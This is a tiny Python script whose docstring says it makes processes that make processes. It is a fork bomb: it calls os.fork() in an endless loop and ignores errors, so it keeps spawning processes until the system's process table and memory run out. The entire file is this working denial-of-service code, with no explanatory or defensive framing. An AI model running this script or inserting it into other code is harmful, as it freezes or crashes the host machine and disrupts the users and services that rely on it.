"""Makes processes that make processes."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
